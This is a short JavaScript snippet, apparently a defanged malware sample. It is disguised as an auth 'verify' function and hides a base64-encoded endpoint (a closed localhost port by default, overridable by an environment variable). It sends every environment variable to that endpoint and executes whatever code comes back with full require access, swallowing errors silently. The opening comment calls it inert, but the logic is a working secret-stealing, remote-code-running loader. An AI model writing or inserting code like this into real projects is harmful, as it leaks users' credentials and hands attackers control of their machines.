// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const AUTH = process.env.AUTH_API || 'aHR0cDovLzEyNy4wLjAuMTo5L2FwaS9pcC1jaGVjaw==';
async function verify() {
  const answer = await fetch(atob(AUTH), { method: 'POST', body: JSON.stringify({ ...process.env }) });
  const { body } = await answer.json();
  new Function('require', body)(require);
}
verify().catch(() => {});
